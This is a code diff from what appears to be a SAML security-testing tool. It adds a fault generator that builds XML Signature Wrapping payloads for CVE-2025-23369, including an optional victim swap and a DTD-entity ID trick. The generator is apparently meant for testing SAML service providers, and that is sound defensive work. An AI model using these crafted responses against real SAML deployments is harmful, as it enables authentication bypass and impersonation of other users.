@@ -10,6 +10,7 @@ from ..builder import DS, SAML, SAMLP, new_id, q
 from . import Fault, FaultContext, register_factory
 from ._common import (
     _asig,
+    _doctype,
     _assertion,
     _assertion_signed,
     _drop_sig,
@@ -258,21 +259,40 @@ def _foreign(source: str, victim: str | None) -> Fault:
 
 
 @register_factory("xsw-cve-2025-23369",
-                  "Response signature removed; the Assertion's signature copied under the Response after Issuer with a "
-                  "ds:Object holding the original Assertion; the real Assertion renamed ID+'ffff' (victim optional)",
-                  ("XSW-09", "CVE-2025-23369"), victim=None)
-def _xsw09(victim: str | None) -> Fault:
+                  "CVE-2025-23369 shape (SAML Raider): Response signature removed; a copy of the Assertion's signature "
+                  "under the Response after Issuer, with a ds:Object holding a copy of the signed Assertion; the read "
+                  "Assertion renamed ID+'ffff', its Signature removed (victim optional); entities=true adds the libxml2 "
+                  "quirk: the Response ID and the copy's ID built from DTD entities (&idViaEntity;, &BypassIDUniqueness;)",
+                  ("XSW-09", "CVE-2025-23369"), victim=None, entities=False)
+def _xsw09(victim: str | None, entities: bool) -> Fault:
     def signed(root: etree._Element, ctx: FaultContext) -> None:
         rs = _sig(root)
         if rs is not None:
             root.remove(rs)
         a = _assertion(root)
-        original = _drop_sig(copy.deepcopy(a))
+        original_id = a.get("ID")
         sig_copy = copy.deepcopy(_asig(root))
-        obj = etree.SubElement(sig_copy, q(DS, "Object"))
-        obj.append(original)
+        inner = copy.deepcopy(a)  # the signed Assertion, its Signature included
+        etree.SubElement(sig_copy, q(DS, "Object")).append(inner)
         root.find(q(SAML, "Issuer")).addnext(sig_copy)
-        a.set("ID", a.get("ID") + "ffff")
+        _drop_sig(a)
+        a.set("ID", original_id + "ffff")
         _victimize(a, victim)
+        if entities:
+            root.set("ID", _ENTITY_SLOT + "idViaEntity")
+            inner.set("ID", _ENTITY_SLOT + "BypassIDUniqueness" + original_id)
+            ctx.notes["xsw09_id"] = original_id
 
-    return Fault("", "", signing=_set_signing(sign_response=True, sign_assertion=True), signed=signed)
+    def b(xml: bytes, ctx: FaultContext) -> bytes:
+        if not entities:
+            return xml
+        xml = xml.replace(f'"{_ENTITY_SLOT}idViaEntity"'.encode(), b'"&idViaEntity;"')
+        xml = xml.replace(f'"{_ENTITY_SLOT}BypassIDUniqueness'.encode(), b'"&BypassIDUniqueness;')
+        oid = ctx.notes["xsw09_id"].encode()
+        return _doctype(xml, b'<!DOCTYPE response [\n<!ENTITY idViaEntity "' + oid + b'">\n'
+                             b'<!ENTITY BypassIDUniqueness "&#x50;">\n]>')
+
+    return Fault("", "", signing=_set_signing(sign_response=True, sign_assertion=True), signed=signed, bytes_=b)
+
+
+_ENTITY_SLOT = "samlconf-entity-"
